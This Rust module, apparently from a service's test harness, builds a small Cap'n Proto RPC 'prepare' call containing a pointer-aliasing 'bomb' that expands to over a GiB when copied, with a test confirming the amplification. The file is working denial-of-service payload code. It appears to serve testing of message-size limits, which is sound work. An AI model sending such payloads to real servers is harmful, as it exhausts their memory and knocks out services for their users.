//! A message of a few KiB in which pointers lead to the same bytes again and again, so that a copy of it has a GiB.

use std::path::Path;

use capnp::any_pointer;
use capnp::private::layout::StructSize;
use packwire_schema::work_capnp::context;

use super::write::{Target, call};
use crate::talk::prepare::fill;
use crate::talk::shape::Any;

/// Four lists in each other, each of as many pointers, all to the next one; the last leads to bytes.
const LEVELS: u64 = 4;
const WIDTH: u64 = 32;
const LEAF: u64 = 1024;
/// What a list of pointers, and one of bytes, is called in a pointer to it.
const POINTERS: u64 = 6;
const BYTES: u64 = 2;

/// The place of the bomb in the message, until it is put there.
const MARK: &str = "a place for something larger";

/// A call of `prepare` with one pointer more than is known, which leads to the bomb.
pub(crate) fn prepare(question: u32, target: Target, interface: u64, directory: &Path) -> Vec<u8> {
    let bytes = call(question, target, interface, 0, |payload| {
        let any: Any<'_> = payload.get_content().init_as();
        let mut params = any.0.init_struct(StructSize { data: 0, pointers: 3 });
        params.reborrow().get_pointer_field(0).set_text("{}".into());
        let place = any_pointer::Builder::new(params.reborrow().get_pointer_field(1));
        fill(place.init_as::<context::Builder<'_>>(), directory, "");
        params.get_pointer_field(2).set_text(MARK.into());
        Ok(())
    });
    armed(&bytes).unwrap_or(bytes)
}

/// The same message with the bomb as its second segment, and a pointer to it in place of the mark.
fn armed(bytes: &[u8]) -> Option<Vec<u8>> {
    let (head, body) = bytes.split_at_checked(8)?;
    let mut words: Vec<u64> = body.chunks_exact(8).map(word).collect();
    let mark = body.windows(MARK.len()).position(|window| window == MARK.as_bytes())? / 8;
    *words.iter_mut().enumerate().find(|(at, word)| leads_to(*at, **word, mark))?.1 = FAR;
    let bomb = bomb();
    let sizes = [u32::try_from(words.len()).ok()?, u32::try_from(bomb.len()).ok()?];
    let [one, other] = sizes.map(u32::to_le_bytes);
    let bytes = words.into_iter().chain(bomb).flat_map(u64::to_le_bytes);
    (head[..4] == [0; 4]).then(|| {
        let second = 1_u32.to_le_bytes();
        [second, one, other, [0; 4]].concat().into_iter().chain(bytes).collect()
    })
}

/// A pointer to the first word of the second segment.
const FAR: u64 = 2 | 1 << 32;

/// Lists in each other, the first word a pointer to the first of them.
fn bomb() -> Vec<u64> {
    let list = |offset: u64, kind: u64, count: u64| 1 | offset << 2 | kind << 32 | count << 35;
    let mut words = vec![list(0, POINTERS, WIDTH)];
    for level in 0..LEVELS {
        let (kind, count) = if level + 1 < LEVELS { (POINTERS, WIDTH) } else { (BYTES, LEAF) };
        // Each of them leads behind the last of them.
        words.extend((0..WIDTH).map(|at| list(WIDTH - at - 1, kind, count)));
    }
    words.extend((0..LEAF / 8).map(|_| 0));
    words
}

fn word(eight: &[u8]) -> u64 {
    eight.iter().rev().fold(0, |word, byte| word << 8 | u64::from(*byte))
}

/// Whether a word at some place is a pointer to a list at another.
fn leads_to(at: usize, word: u64, list: usize) -> bool {
    let offset = usize::try_from((word & 0xffff_ffff) >> 2);
    word & 3 == 1 && offset.is_ok_and(|offset| at + 1 + offset == list)
}

#[cfg(test)]
mod tests {
    use capnp::message::ReaderOptions;
    use capnp_rpc::rpc_capnp::message;
    use packwire_schema::builder_capnp::image_builder::prepare_params;

    use super::*;

    #[test]
    fn it_is_small_can_be_read_and_grows_beyond_every_limit_when_it_is_copied() {
        let bytes = prepare(1, Target::Export(0), 2, Path::new("/"));
        assert!(bytes.len() < 4096, "{} bytes", bytes.len());
        let mut options = ReaderOptions::new();
        options.traversal_limit_in_words(None);
        let read = capnp::serialize::read_message(&bytes[..], options).unwrap();
        let Ok(message::Call(call)) = read.get_root::<message::Reader<'_>>().unwrap().which() else {
            panic!()
        };
        let content = call.unwrap().get_params().unwrap().get_content();
        let params: prepare_params::Reader<'_> = content.get_as().unwrap();
        assert_eq!(params.get_config().unwrap().to_str().unwrap(), "{}");
        assert!(content.target_size().unwrap().word_count > 1 << 27);
    }
}
